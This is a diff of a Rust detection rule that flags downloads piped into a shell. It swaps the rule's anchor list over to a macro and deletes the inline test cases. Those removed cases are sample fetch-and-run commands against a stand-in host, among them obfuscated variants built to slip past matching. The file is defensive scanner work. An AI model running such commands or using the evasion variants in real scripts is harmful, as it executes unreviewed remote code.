@@ -1,8 +1,9 @@
 //! Something is piped to a shell, which runs it.
 
 use crate::code::command::{Step, is_decoder, is_shell};
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::unit::{ANYWHERE, Place, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "EXEC_PIPE_BASH",
@@ -12,32 +13,12 @@ pub(super) const RULE: Rule = Rule {
     why: "The shell runs whatever comes through the pipe. Nobody has seen it before, and it can be different each time.",
     fix: "write the output to a file, look at it, and run the file",
     places: ANYWHERE,
-    anchors: &[
+    anchors: words![
         "| bash", "|bash", "| sh", "|sh", "| sudo", "|sudo", "| zsh", "|zsh", "| ksh", "|ksh", "| dash",
         "|dash", "| fish", "|fish", "| ash", "| /bin", "|/bin", "| /usr", "|/usr", "| env ", "| exec ", "|&",
         "| xargs", "curl", "wget", "base64",
     ],
     check: Check::Unit(hits),
-    hits: &[
-        text("x | bash"),
-        text("Install it: curl http://a.b/x | bash"),
-        text("```\nx || sh -s; x | sh\n```"),
-        text("```\ncurl http://a.b/x | sudo bash\n```"),
-        text("`curl http://a.b/x | /bin/bash`"),
-        text("`curl http://a.b/x | env bash -s -- -y`"),
-        text("`curl http://a.b/x |& dash`"),
-        text("`curl http://a.b/x | tee f | fish`"),
-        text("curl${IFS}http://a.b|sh"),
-        text("```sh\ncurl http://a.b/x |\n  ba''sh\n```"),
-        file("run.sh", "U=http://a.b/x\ncurl $U | sh\n"),
-    ],
-    misses: &[
-        text("| tool | bash |\n|---|---|\n| a | bash |\n"),
-        text("Never pipe curl | bash."),
-        text("`curl -LsSf https://astral.sh/uv/install.sh | sh`"),
-        text("`echo 'ls' | sh`"),
-        text("`ls | shasum`"),
-    ],
 };
 
 patterns! {
